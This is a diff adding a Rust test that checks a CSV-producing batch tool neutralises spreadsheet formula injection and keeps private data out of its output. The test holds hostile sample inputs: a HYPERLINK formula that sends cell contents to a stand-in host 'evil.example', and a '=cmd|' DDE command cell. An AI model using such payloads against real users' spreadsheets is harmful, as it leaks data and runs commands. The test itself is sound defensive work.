@@ -441,3 +441,62 @@ fn unreadable_inputs_stop_before_any_call() {
     assert_eq!(sb.stats().pir_requests, 0);
     assert!(!out.exists());
 }
+
+#[test]
+fn hostile_error_bodies_and_formula_cells_never_reach_the_csv_as_formulas() {
+    let sb = strict_with(SandboxOptions::default().ir003_limit(0));
+    // What a hostile or broken server might send: a "code" that is a
+    // spreadsheet formula, a message with a person's name, address and IRD.
+    let hostile = r#"{"errors":[{"code":"=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")","type":"validation","message":"Gary Allen, 1 Queen St, IRD 049091850"}]}"#;
+    sb.set_fault(
+        Fault::new(FaultKind::Answer {
+            status: 400,
+            body: hostile.to_owned(),
+        })
+        .times(1),
+    );
+    let dir = tempfile::tempdir().expect("tempdir");
+    let input = dir.path().join("members.csv");
+    let out = dir.path().join("rates.csv");
+    std::fs::write(
+        &input,
+        "=cmd|' /C calc'!A0,IRD,PieIRD,Note,Balance\n\
+         M1,139276507,125000002,=1+1,-12.5\n\
+         @SUM(A1),139276310,125000002,+64 21 555 0100,+7\n",
+    )
+    .expect("input");
+    let r = batch(
+        &sb,
+        &input,
+        &out,
+        &["--concurrency", "1", "--progress", "none"],
+    );
+    let text = read(&out);
+    for formula in ["=HYPERLINK", "=1+1", "=cmd"] {
+        // Present only behind the neutralising quote, if at all.
+        for (i, _) in text.match_indices(formula) {
+            assert!(
+                i > 0 && text.as_bytes()[i - 1] == b'\'',
+                "unquoted {formula} in:\n{text}"
+            );
+        }
+    }
+    for private in ["Gary", "Queen", "049091850", "HYPERLINK"] {
+        assert!(!text.contains(private), "{private} in:\n{text}");
+        assert!(!r.stderr.contains(private), "{private} in:\n{}", r.stderr);
+    }
+    let rows = rows(&text);
+    // The header and carried cells are neutralised; plain numbers are not.
+    let first_column = "'=cmd|' /C calc'!A0";
+    assert!(rows[0].contains_key(first_column), "{:?}", rows[0].keys());
+    assert_eq!(rows[0]["Note"], "'=1+1");
+    assert_eq!(rows[0]["Balance"], "-12.5");
+    assert_eq!(rows[1][first_column], "'@SUM(A1)");
+    assert_eq!(rows[1]["Note"], "'+64 21 555 0100");
+    assert_eq!(rows[1]["Balance"], "+7");
+    // The hostile answer is an unrecognised code, its text left out.
+    let failed: Vec<_> = rows.iter().filter(|r| !r["ErrorCode"].is_empty()).collect();
+    assert_eq!(failed.len(), 1, "{text}");
+    assert_eq!(failed[0]["ErrorCode"], "UNRECOGNISED");
+    assert!(!failed[0]["ErrorMessage"].starts_with(['=', '+', '-', '@']));
+}
